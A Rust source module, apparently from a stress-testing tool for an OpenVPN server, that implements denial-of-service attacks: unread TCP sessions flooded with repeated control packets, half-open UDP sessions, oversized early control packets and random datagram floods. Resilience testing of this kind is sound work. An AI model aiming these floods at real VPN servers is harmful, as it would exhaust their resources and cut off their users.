//! OpenVPN sessions that never finish their handshake.

use std::convert::Infallible;
use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use bytes::{Bytes, BytesMut};
use culvert_openvpn::packet::{ControlPacket, KeyId, Opcode, SessionId};
use tokio::io::AsyncReadExt as _;
use tokio::net::UdpSocket;
use tokio::time::{sleep, timeout};

use super::{Attacker, Crowd, noise};

/// Longest wait for the answer to a first packet.
const ANSWER_LIMIT: Duration = Duration::from_secs(1);

/// Largest answer of a server, in bytes.
const ANSWER: usize = 2000;

/// Ids and payload of control packets that arrive before the first one is complete, in bytes. A server keeps the
/// messages of a window.
const EARLY: std::ops::RangeInclusive<u32> = 2..=12;
const EARLY_BYTES: usize = 60_000;

/// First message id that counts as a repetition, and the number of packets in one write.
const REPEATED: u32 = 1 << 31;
const REPEATED_AT_ONCE: u32 = 300;

/// Pause between two writes of repetitions: about 8 MB/s.
const REPEATED_PAUSE: Duration = Duration::from_millis(1);

/// Receive buffer of a peer that reads nothing, in bytes.
const UNREAD: u32 = 4096;

/// Largest random datagram, in bytes.
const NOISE: usize = 1400;

impl Attacker {
    /// Opens TCP connections, begins a session on each, reads nothing, and repeats packets that the server
    /// acknowledges.
    pub(crate) async fn unread_control(&self, to: SocketAddr, crowd: Crowd) -> Infallible {
        self.crowd(crowd, move |attacker| async move {
            let small = |socket: &tokio::net::TcpSocket| socket.set_recv_buffer_size(UNREAD);
            let mut stream = attacker.connect_with(to, small).await?;
            let client = session();
            attacker.send(&mut stream, &framed(&reset(client))).await?;
            let mut answer = vec![0; usize::from(stream.read_u16().await?)];
            stream.read_exact(&mut answer).await?;
            let server = parsed(&answer)?;
            for first in (REPEATED..=u32::MAX).step_by(REPEATED_AT_ONCE as usize) {
                let ids = first..first.saturating_add(REPEATED_AT_ONCE);
                let packets = ids.map(|id| framed(&control(client, server, id, &[])));
                let packets: Vec<u8> = packets.flatten().collect();
                attacker.send(&mut stream, &packets).await?;
                sleep(REPEATED_PAUSE).await;
            }
            Ok(())
        })
        .await
    }

    /// Begins sessions over UDP, each from another port.
    pub(crate) async fn half_open(&self, to: SocketAddr, crowd: Crowd) -> Infallible {
        self.crowd(crowd, move |attacker| async move {
            let (socket, client, server) = attacker.began(to).await?;
            let packet = control(client, server, 1, &noise(200));
            attacker.datagram(&socket, &packet).await?;
            std::future::pending().await
        })
        .await
    }

    /// Begins sessions over UDP and sends control packets of 60 KB that arrive too early.
    pub(crate) async fn large_control(&self, to: SocketAddr, crowd: Crowd) -> Infallible {
        self.crowd(crowd, move |attacker| async move {
            let (socket, client, server) = attacker.began(to).await?;
            let payload = vec![7; EARLY_BYTES];
            for id in EARLY {
                let packet = control(client, server, id, &payload);
                attacker.datagram(&socket, &packet).await?;
            }
            std::future::pending().await
        })
        .await
    }

    /// Sends random datagrams, each from another port.
    pub(crate) async fn datagrams(&self, to: SocketAddr, crowd: Crowd) -> Infallible {
        self.crowd(crowd, move |attacker| async move {
            let socket = attacker.socket(to).await?;
            attacker.datagram(&socket, &noise(NOISE)).await
        })
        .await
    }

    /// Exchanges the first packets of a session. Returns the ids of the client and of the server.
    async fn began(&self, to: SocketAddr) -> io::Result<(UdpSocket, SessionId, SessionId)> {
        let socket = self.socket(to).await?;
        let client = session();
        self.datagram(&socket, &reset(client)).await?;
        let mut answer = [0; ANSWER];
        let length = timeout(ANSWER_LIMIT, socket.recv(&mut answer)).await??;
        let server = parsed(answer.get(..length).unwrap_or_default())?;
        Ok((socket, client, server))
    }

    async fn socket(&self, to: SocketAddr) -> io::Result<UdpSocket> {
        let socket = UdpSocket::bind(self.source()).await?;
        socket.connect(to).await?;
        self.opened();
        Ok(socket)
    }

    async fn datagram(&self, socket: &UdpSocket, packet: &[u8]) -> io::Result<()> {
        self.sent(socket.send(packet).await?);
        Ok(())
    }
}

/// Returns the first message of an OpenVPN client over TCP.
pub(crate) fn first_message() -> Bytes {
    framed(&reset(session())).into()
}

fn session() -> SessionId {
    SessionId::random(&mut rand::rng())
}

/// Prepends the packet length, which OpenVPN requires over TCP.
fn framed(packet: &[u8]) -> Vec<u8> {
    let length = u16::try_from(packet.len()).unwrap_or(u16::MAX);
    [&length.to_be_bytes(), packet].concat()
}

fn reset(client: SessionId) -> BytesMut {
    encode(&ControlPacket {
        opcode: Opcode::HardResetClientV2,
        key_id: KeyId::FIRST,
        session: client,
        acks: Vec::new(),
        peer_session: None,
        id: Some(0),
        payload: &[],
    })
}

/// Encodes a message that acknowledges the server's first packet.
fn control(client: SessionId, server: SessionId, id: u32, payload: &[u8]) -> BytesMut {
    encode(&ControlPacket {
        opcode: Opcode::ControlV1,
        key_id: KeyId::FIRST,
        session: client,
        acks: vec![0],
        peer_session: Some(server),
        id: Some(id),
        payload,
    })
}

fn encode(packet: &ControlPacket<'_>) -> BytesMut {
    let mut bytes = BytesMut::new();
    packet.write(&mut bytes);
    bytes
}

/// Returns the session id of the server in its answer.
fn parsed(answer: &[u8]) -> io::Result<SessionId> {
    let packet = ControlPacket::parse(answer).map_err(io::Error::other)?;
    Ok(packet.session)
}
